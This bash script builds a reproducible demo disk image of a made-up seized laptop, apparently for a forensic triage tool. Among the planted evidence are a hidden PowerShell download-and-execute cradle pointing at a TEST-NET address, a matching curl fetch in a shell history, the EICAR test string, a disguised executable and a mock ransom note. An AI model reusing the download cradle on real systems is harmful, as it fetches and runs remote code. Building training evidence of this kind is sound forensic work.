#!/usr/bin/env bash
# Build resources/demo/demo-disk.img: the bundled demo evidence, a 7 MiB MBR
# disk of a made-up "seized laptop" with a FAT16 and an ext4 partition.
# See README.md next to this script for what is inside.
#
# Needs: sfdisk, mkfs.fat, mtools (mcopy, mdel), mkfs.ext4, debugfs, zip,
# python3 (for the PNG), dd. No mounting: every tool writes the image file.
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
out=${1:-$here/demo-disk.img}
pe=${HELLO_EXE:-$here/../../../shared/corpus/pe/HelloWorld.exe}

# Fixed times and ids so that a rebuild gives the same bytes.
export LC_ALL=C.UTF-8 TZ=UTC
export SOURCE_DATE_EPOCH=1709285400        # 2024-03-01 09:30 UTC, mtools' time for new entries
export E2FSPROGS_FAKE_TIME=$SOURCE_DATE_EPOCH
export MTOOLS_SKIP_CHECK=1

# Layout in 512-byte sectors.
FAT_START=2048 FAT_SECTORS=6144            # 3 MiB FAT16 (FAT16 needs >= 4085 clusters)
EXT_START=8192 EXT_SECTORS=6144            # 3 MiB ext4
DISK_SECTORS=14336                         # 7 MiB

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# --- the files ------------------------------------------------------------
fat=$work/fat
ext=$work/ext
mkdir -p "$fat/Documents/Finanzen" "$fat/Pictures" "$fat/Downloads" \
    "$ext/home/alex/Desktop" "$ext/home/alex/notes" "$ext/home/alex/www"

cat >"$fat/Documents/meeting-notes.txt" <<'EOF'
Project sync - 2024-02-27
Attendees: Alex, Sam, Priya

- Q1 numbers are in budget-2024.csv
- Sam to send the new invoice template by Friday
- Next meeting: 2024-03-05 10:00
EOF

cat >"$fat/Documents/shopping-list.txt" <<'EOF'
milk
eggs
coffee beans
batteries (AA)
birthday card for Priya
EOF

cat >"$fat/Documents/budget-2024.csv" <<'EOF'
month,category,amount_eur
2024-01,rent,950.00
2024-01,groceries,312.45
2024-02,rent,950.00
2024-02,groceries,287.10
2024-02,travel,129.99
EOF

cat >"$fat/Documents/README.md" <<'EOF'
# My documents

* `budget-2024.csv` - household budget
* `Finanzen/` - bank transfers
EOF

cat >"$fat/Documents/Finanzen/Überweisung_2024.txt" <<'EOF'
Überweisung an: Max Mustermann
IBAN: DE00 0000 0000 0000 0000 00
Betrag: 1.250,00 EUR
EOF

# The one deleted file (deleted with mdel below).
cat >"$fat/Documents/passwords_old.txt" <<'EOF'
email: hunter2
bank:  correct horse battery staple
EOF

# A Windows PE under an image name (PeNet's HelloWorld.exe, Apache-2.0).
cp "$pe" "$fat/Pictures/holiday.jpg"

# A real 48x32 RGB PNG, written with zlib + struct only.
python3 - "$fat/Pictures/sunset.png" <<'EOF'
import struct, sys, zlib
w, h = 48, 32
rows = b"".join(
    b"\x00" + b"".join(bytes((255, 80 + 5 * y, 40 + 2 * x)) for x in range(w)) for y in range(h)
)
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
png += chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
open(sys.argv[1], "wb").write(png)
EOF

# EICAR test string, in two halves so this script does not trip a scanner.
printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' \
    >"$fat/Downloads/eicar.com"

# A zip holding a PowerShell download cradle (203.0.113.0/24 is TEST-NET-3).
mkdir "$work/zip"
cat >"$work/zip/update.ps1" <<'EOF'
# Invoice viewer update
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"
EOF
touch -d '2024-02-28 21:14:00' "$work/zip/update.ps1"
(cd "$work/zip" && zip -q -X "$fat/Downloads/invoice_update.zip" update.ps1)

cat >"$ext/home/alex/notes/tor-links.txt" <<'EOF'
market (new mirror, old one is down):
http://pi5wvcbimiwzmmuwjmbynczhx6wkhpptt7v3bnrft5wzlaziotknuhad.onion/
use the tor browser only!
EOF

cat >"$ext/home/alex/Desktop/README_RESTORE_FILES.txt" <<'EOF'
!!! ALL YOUR FILES HAVE BEEN ENCRYPTED !!!

Your documents, photos and databases are encrypted with military grade
encryption. To decrypt your files you need our decryption tool.

1. Install Tor Browser
2. Open http://pi5wvcbimiwzmmuwjmbynczhx6wkhpptt7v3bnrft5wzlaziotknuhad.onion/
3. Enter your personal ID: DEMO-7F3A-21C9
4. Pay 0.05 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa

Do not rename the files. Do not try to decrypt them yourself.
(This is a harmless demo note for cybertriage.)
EOF

cat >"$ext/home/alex/www/index.html" <<'EOF'
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Alex's page</title></head>
<body>
<h1>Hello!</h1>
<p>Photos from the holiday are coming soon.</p>
</body>
</html>
EOF

cat >"$ext/home/alex/.bash_history" <<'EOF'
ls -la
cd Downloads
curl -o a.ps1 http://203.0.113.7/a.ps1
unzip invoice_update.zip
rm -rf ~/.cache/thumbnails
EOF

# Plausible, fixed modification times (directories last, so nothing bumps them).
touch -d '2024-02-27 16:05:00' "$fat/Documents/meeting-notes.txt"
touch -d '2024-02-25 11:42:00' "$fat/Documents/shopping-list.txt"
touch -d '2024-02-29 19:03:00' "$fat/Documents/budget-2024.csv"
touch -d '2024-01-10 08:00:00' "$fat/Documents/README.md" "$fat/Documents/passwords_old.txt"
touch -d '2024-02-02 12:30:00' "$fat/Documents/Finanzen/Überweisung_2024.txt"
touch -d '2023-08-14 18:22:00' "$fat/Pictures/holiday.jpg" "$fat/Pictures/sunset.png"
touch -d '2024-02-28 21:15:00' "$fat/Downloads/invoice_update.zip" "$fat/Downloads/eicar.com"
touch -d '2024-02-28 23:40:00' "$ext/home/alex/notes/tor-links.txt" "$ext/home/alex/.bash_history"
touch -d '2024-03-01 03:12:00' "$ext/home/alex/Desktop/README_RESTORE_FILES.txt"
touch -d '2023-11-05 10:00:00' "$ext/home/alex/www/index.html"
find "$fat" "$ext" -type d -exec touch -d '2024-03-01 09:00:00' {} +

# --- the disk -------------------------------------------------------------
rm -f "$out"
truncate -s $((DISK_SECTORS * 512)) "$out"
sfdisk --no-reread --no-tell-kernel -q "$out" <<EOF
label: dos
label-id: 0x0a1e2024
unit: sectors

start=$FAT_START, size=$FAT_SECTORS, type=6
start=$EXT_START, size=$EXT_SECTORS, type=83
EOF

# FAT16, formatted in place (mkfs.fat warns that the file is bigger than the
# filesystem, which is the point), filled with mtools in sorted order so the
# directory entries do not depend on readdir order.
mkfs.fat -F 16 -s 1 -n USERDATA --invariant -i 0a1e2024 -h "$FAT_START" \
    --offset="$FAT_START" "$out" $((FAT_SECTORS / 2)) 2>&1 >/dev/null |
    { grep -v 'block count mismatch' >&2 || true; }
drive="$out@@$((FAT_START * 512))"
(cd "$fat" && find . -mindepth 1 -type d -printf '%P\n' | sort) | while IFS= read -r d; do
    mmd -i "$drive" "::/$d"
done
(cd "$fat" && find . -type f -printf '%P\n' | sort) | while IFS= read -r f; do
    mcopy -m -Q -i "$drive" "$fat/$f" "::/$f"
done
mdel -i "$drive" ::/Documents/passwords_old.txt

# ext4, built in its own file by mkfs.ext4 -d, then copied into place.
uuid=5d3c1e2a-7b4f-4a6e-9c81-0a1e20240301
truncate -s $((EXT_SECTORS * 512)) "$work/ext4.img"
mkfs.ext4 -q -F -b 1024 -N 64 -L linux -U "$uuid" -E "hash_seed=$uuid,root_owner=1000:1000" \
    -d "$ext" "$work/ext4.img"
# mkfs.ext4 copies each file's ctime, which cannot be set from user space; pin it.
(cd "$ext" && find . -mindepth 1 -printf '%P\n') | sort |
    sed 's|.*|sif "/&" ctime @'"$SOURCE_DATE_EPOCH"'|' >"$work/ctime.cmds"
printf 'sif / ctime @%s\nsif /lost+found ctime @%s\n' "$SOURCE_DATE_EPOCH" "$SOURCE_DATE_EPOCH" \
    >>"$work/ctime.cmds"
debugfs -w -f "$work/ctime.cmds" "$work/ext4.img" >/dev/null 2>"$work/debugfs.err"
if grep -v '^debugfs [0-9]' "$work/debugfs.err"; then exit 1; fi
dd if="$work/ext4.img" of="$out" bs=1M seek=$((EXT_START * 512)) oflag=seek_bytes \
    conv=notrunc status=none

echo "wrote $out ($(stat -c %s "$out") bytes)"
